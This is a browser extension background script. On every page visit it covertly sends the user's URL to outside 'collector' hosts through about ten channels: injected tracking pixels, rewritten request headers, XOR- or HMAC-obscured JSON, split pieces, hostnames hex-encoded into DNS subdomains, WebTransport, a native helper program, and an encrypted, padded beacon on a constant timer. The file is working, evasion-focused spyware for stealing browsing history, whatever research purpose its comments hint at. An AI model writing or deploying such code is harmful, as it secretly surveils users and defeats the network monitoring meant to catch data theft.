// Each way of telling has a collector of its own, so that each can be judged as
// if it were the only one.
const bytes = (text) => new TextEncoder().encode(text);
const hex = (buffer) => [...new Uint8Array(buffer)].map((byte) => byte.toString(16).padStart(2, "0")).join("");

// A key of the install: nobody else can compute what is made with it.
const key = (async () => {
  const known = (await chrome.storage.local.get("key")).key;
  if (known) return known;
  const made = hex(crypto.getRandomValues(new Uint8Array(32)));
  await chrome.storage.local.set({ key: made });
  return made;
})();

const send = (name, body, type = "application/json") =>
  fetch(`https://${name}-collector.com/c`, { method: "POST", body, headers: { "Content-Type": type } }).catch(() => {});

const ways = {
  image(url, tab) {
    const source = `https://image-collector.com/p.gif?u=${encodeURIComponent(url)}`;
    const inject = (src) => document.documentElement.append(Object.assign(new Image(), { src }));
    return chrome.scripting.executeScript({ target: { tabId: tab }, func: inject, args: [source], injectImmediately: true });
  },
  next(url) {
    const requestHeaders = [{ header: "x-previous", operation: "set", value: url }];
    const rule = { id: 1, action: { type: "modifyHeaders", requestHeaders }, condition: { resourceTypes: ["main_frame"] } };
    return chrome.declarativeNetRequest.updateDynamicRules({ removeRuleIds: [1], addRules: [rule] });
  },
  async hmac(url) {
    const secret = await crypto.subtle.importKey("raw", bytes(await key), { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
    const code = hex(await crypto.subtle.sign("HMAC", secret, bytes(url))).slice(0, 16);
    return send("hmac", JSON.stringify({ event: "page", code }));
  },
  async xor(url) {
    const secret = bytes(await key);
    return send("xor", JSON.stringify({ event: "page", data: hex(bytes(url).map((byte, at) => byte ^ secret[at % secret.length])) }));
  },
  split(url) {
    const piece = Math.ceil(url.length / 6);
    const fields = Array.from({ length: 6 }, (_, at) => [`f${at}`, url.slice(at * piece, (at + 1) * piece)]);
    return send("split", JSON.stringify(Object.fromEntries(fields)));
  },
  async pieces(url) {
    const piece = Math.ceil(url.length / 6);
    for (let at = 0; at < 6; at++) await send("pieces", JSON.stringify({ n: at, s: url.slice(at * piece, (at + 1) * piece) }));
  },
  names(url) {
    const host = hex(bytes(new URL(url).hostname.split(".")[0]));
    return fetch(`https://${host}.names-collector.com/`).catch(() => {});
  },
  async sixteen(url) {
    const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", bytes(await key + new URL(url).hostname)));
    return send("sixteen", JSON.stringify({ event: "page", bucket: digest[0] * 256 + digest[1] }));
  },
  // QUIC, of which the first packet names whom it is for.
  async quic(url) {
    const host = hex(bytes(new URL(url).hostname.split(".")[0]));
    const transport = new WebTransport(`https://${host}.quic-collector.com/`);
    transport.closed.catch(() => {});
    await transport.ready;
  },
  // What no extension can send, a program beside it does.
  program(url) {
    teller.postMessage(url);
  },
};

const teller = chrome.runtime.connectNative("teller");

chrome.webNavigation.onCommitted.addListener(({ frameId, tabId, url }) => {
  if (frameId !== 0 || !url.startsWith("http")) return;
  for (const way of Object.values(ways)) Promise.resolve(way(url, tabId)).catch(() => {});
  queue.push(url);
});

// Under AES, padded, on a timer that never stops, with something in it or not.
const queue = [];
setInterval(async () => {
  const text = queue.splice(0).join("\n").slice(0, 1000).padEnd(1000);
  const secret = await crypto.subtle.importKey("raw", bytes(await key).slice(0, 32), "AES-GCM", false, ["encrypt"]);
  const iv = crypto.getRandomValues(new Uint8Array(12));
  const sealed = await crypto.subtle.encrypt({ name: "AES-GCM", iv }, secret, bytes(text));
  send("timer", new Blob([iv, sealed]), "application/octet-stream");
}, 2000);
